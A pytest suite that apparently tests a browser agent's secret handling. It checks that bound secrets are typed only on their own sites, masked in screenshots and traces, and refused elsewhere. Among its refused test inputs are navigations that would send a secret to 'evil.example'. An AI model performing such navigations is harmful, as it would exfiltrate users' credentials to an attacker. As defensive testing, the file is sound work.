"""Secrets are typed where they belong, and in nothing that a run leaves behind: files, pictures, what it said."""

from __future__ import annotations

from pathlib import Path

import pytest
from PIL import Image

from action_space.actions import Click, Input, Navigate, Select
from agent import Agent, Controller, Secret, SecretError, Secrets
from agent.trace.reader import read_trace
from envs.browser.config import BrowserConfig
from envs.browser.environment import BrowserEnvironment
from envs.browser.network.sites import SiteRules
from model import ScriptedModel
from model.embedded.eyes.reader import Reader
from tests.secrets.place import FIELDS, PASSWORD, PLAIN, SEND, TOKEN, Site, leaks, play, site

pytestmark = pytest.mark.browser


@pytest.fixture
def careless():
    with site() as server:
        yield server


def words(path: Path) -> str:
    """All that can be read in a picture."""
    with Image.open(path) as picture:
        return " ".join(line.text for line in Reader().look(picture.convert("RGB")).lines)


def test_a_run_types_every_kind_of_secret_and_keeps_none(careless: Site, tmp_path: Path) -> None:
    work, said, code = play(tmp_path, careless.url)
    assert code == 0, said
    given = careless.given()
    assert given["pw"] == PASSWORD
    assert given["plain"] == PLAIN
    assert given["code"].isdecimal()
    assert len(given["code"]) == 6
    assert any("t=tok%2Fen%2B2210-abcdef" in path for path in careless.seen)
    assert leaks(work, given["code"]) == []
    (run,) = (work / "runs").iterdir()
    assert "<secret:plain>" in (run / "traj.jsonl").read_text("utf-8")
    assert (run / "report.html").exists()
    read = [words(picture) for picture in sorted(run.glob("*.png"))]
    assert len(read) == 7
    assert not any(value in text.replace(" ", "") for text in read for value in ("77431", "2210", given["code"]))


@pytest.mark.parametrize("steps", [2, 4])
def test_a_run_that_is_killed_keeps_none(careless: Site, tmp_path: Path, steps: int) -> None:
    work, _, code = play(tmp_path, careless.url, kill_after=steps)
    assert code == -9
    assert leaks(work) == []


def test_the_wrong_site_is_refused_and_nothing_typed(careless: Site, tmp_path: Path) -> None:
    work, said, _ = play(tmp_path, careless.url, place="shop.example")
    (run,) = (work / "runs").iterdir()
    steps = read_trace(run).steps
    assert [step["error"]["kind"] for step in steps[:3]] == ["refused"] * 3, said
    assert "<secret:plain> is bound to shop.example" in steps[1]["error"]["message"]
    assert careless.given() == {}
    assert not any("tok" in path for path in careless.seen)
    assert leaks(work) == []


def browser(url: str) -> BrowserEnvironment:
    return BrowserEnvironment(BrowserConfig(url=url, viewport=(800, 400), sites=SiteRules(private=True)))


def some(**more: tuple[str, ...]) -> Secrets:
    places = {"plain": ("127.0.0.1",), **more}
    return Secrets({name: Secret(PLAIN, at) for name, at in places.items()})


def test_model_and_picture_see_a_cover(careless: Site) -> None:
    with browser(careless.url) as environment:
        environment.keep_secrets(some())
        seen = environment.observe()
        done = environment.execute(Input(text="<secret:plain>", start_point=FIELDS["plain"]), seen)
        assert done.error is None
        assert environment.evaluate("document.getElementById('plain').value") == PLAIN
        after = done.observation
        assert after.screenshot.getpixel((60, 100)) == (64, 64, 64)  # the field
        assert after.screenshot.getpixel((430, 112)) == (64, 64, 64)  # what the page wrote of it elsewhere
        assert after.screenshot.getpixel((60, 160)) != (64, 64, 64)
        assert after.title == "T <secret:plain>"
        assert done.effect.field_value is None
        sent = environment.execute(Click(start_point=SEND), after)
        assert PLAIN not in (sent.observation.url or "")
        assert "<secret:plain>" in (sent.observation.url or "")


def test_what_no_secret_may_be_used_for(careless: Site) -> None:
    with browser(careless.url) as environment:
        environment.keep_secrets(some(other=("shop.example",)))
        seen = environment.observe()
        for action, told in (
            (Input(text="<secret:gone>"), "there is no secret <secret:gone>; those that were given: plain, other"),
            (Input(text="a<secret:other>"), "is bound to shop.example; it is not typed on http://127.0.0.1"),
            (Navigate(url="http://127.0.0.1@evil.example/<secret:plain>"), "credentials"),
            (Navigate(url="http://evil.example/<secret:plain>"), "not typed on http://evil.example"),
            (Select(text="<secret:plain>"), "can only be typed with input"),
        ):
            error = environment.execute(action, seen).error
            assert error is not None
            assert error.kind == "refused"
            assert told in error.message


def test_a_frame_of_another_site_takes_none(careless: Site) -> None:
    with site() as other, browser(careless.url) as environment:
        port = int(other.url.rpartition(":")[2])
        environment.keep_secrets(some(plain=(f"127.0.0.1:{port}",)))
        environment.evaluate(
            "(url) => new Promise(done => { document.body.innerHTML = `<iframe style='position:absolute;left:0;"
            "top:0;border:0;width:700px;height:300px' src='${url}'></iframe>`;"
            "document.querySelector('iframe').onload = done; })",
            other.url,
        )
        seen = environment.observe()
        done = environment.execute(Input(text="<secret:plain>", start_point=FIELDS["plain"]), seen)
        # The frame is bound, the page around it is not: it could take the focus while the value is typed.
        assert done.error is not None
        assert careless.url in done.error.message
        environment.keep_secrets(some(plain=("127.0.0.1",)))
        done = environment.execute(Input(text="<secret:plain>", start_point=FIELDS["plain"]), done.observation)
        assert done.error is None
        assert done.observation.screenshot.getpixel((60, 100)) == (64, 64, 64)


def test_agent_and_controller_take_secrets(careless: Site, tmp_path: Path) -> None:
    with browser(careless.url) as environment:
        answers = [Input(text="<secret:plain>", start_point=FIELDS["plain"])]
        agent = Agent(ScriptedModel(answers), environment, secrets=some(), trace_dir=tmp_path / "run")
        with pytest.raises(SecretError, match="there is no secret <secret:bank>"):
            agent.run("pay with <secret:bank>")
        assert not (tmp_path / "run").exists()
        agent.run("type <secret:plain>")
        assert environment.evaluate("document.getElementById('plain').value") == PLAIN
        told = read_trace(tmp_path / "run").steps[0]["told"]
        assert any("<secret:plain> (for 127.0.0.1)" in note for note in told)
        Controller(environment, secrets=some(), evidence=tmp_path)
        with pytest.raises(SecretError, match="cannot type them"):
            Controller(_Blind(), secrets=some())  # type: ignore[arg-type]
    assert TOKEN not in repr(Secret(TOKEN, ("desktop",)))


class _Blind:
    name = "remote"
    actions = frozenset({"click"})
